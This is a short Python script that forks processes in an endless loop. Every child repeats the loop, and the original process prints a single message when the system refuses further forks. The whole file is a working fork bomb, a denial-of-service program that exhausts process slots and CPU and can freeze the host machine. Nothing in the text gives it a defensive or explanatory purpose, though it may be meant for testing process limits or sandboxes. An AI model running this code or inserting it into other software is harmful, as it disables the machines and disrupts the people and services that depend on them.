"""Forks without end, and so does every child."""

import os
import time

first = os.getpid()
told = False
while True:
    try:
        os.fork()
    except OSError as error:
        if os.getpid() == first and not told:
            print(f"refused to fork: {error.strerror}", flush=True)
            told = True
        time.sleep(0.01)
